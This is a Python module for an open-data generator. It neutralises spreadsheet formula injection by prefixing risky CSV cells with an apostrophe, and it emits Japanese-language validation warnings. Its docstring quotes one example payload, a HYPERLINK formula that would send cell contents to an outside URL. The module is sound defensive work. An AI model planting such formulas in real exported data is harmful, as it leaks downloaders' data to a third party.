"""Spreadsheet formula injection: contributor text never becomes a formula in the open data.

A spreadsheet treats a cell whose text starts with = + - @ (or a tab / CR before one) as a formula, so
`=HYPERLINK("https://…?x="&A1, "…")` in a title would run in every downloader's Excel. Defences, as OWASP's
"CSV Injection" page advises:
- xlsx: every text cell is written as a string cell (never `<f>`), whatever it starts with;
- CSV: a text cell starting with one of those characters gets a leading apostrophe (`'=…`), which
  spreadsheets show as text; numbers (a negative baseline -5) are left alone;
- validation: a warning when a contributor's text starts with `=`, so a reviewer sees it.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(value: Any) -> Any:
    """A CSV cell that no spreadsheet evaluates: text starting with = + - @ tab CR gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_row(values: list[Any]) -> list[Any]:
    return [neutral(v) for v in values]


def formula_warnings(doc: Any) -> list[Any]:
    """A warning for each contributor text that starts with `=` (after spaces): it looks like a spreadsheet formula."""
    from generator.data.caseschema import label
    from generator.read.errors import Problem
    from generator.read.text import strings

    problems = []
    for path, text in strings(doc.data):
        if text.lstrip(" \u3000").startswith(("=", "＝")) and text.strip() not in ("=", "＝"):
            line, col = doc.where(path)
            problems.append(Problem(doc.file, line, col,
                                    f"{label(path)} が「=」で始まっています（「{text.strip()[:30]}」）。表計算ソフトでは数式に見えるため、"
                                    "オープンデータの CSV では先頭に「'」を付けて文字として出力します。数式のつもりでなければ、「=」で始まらない文にしてください",
                                    "warning"))
    return problems
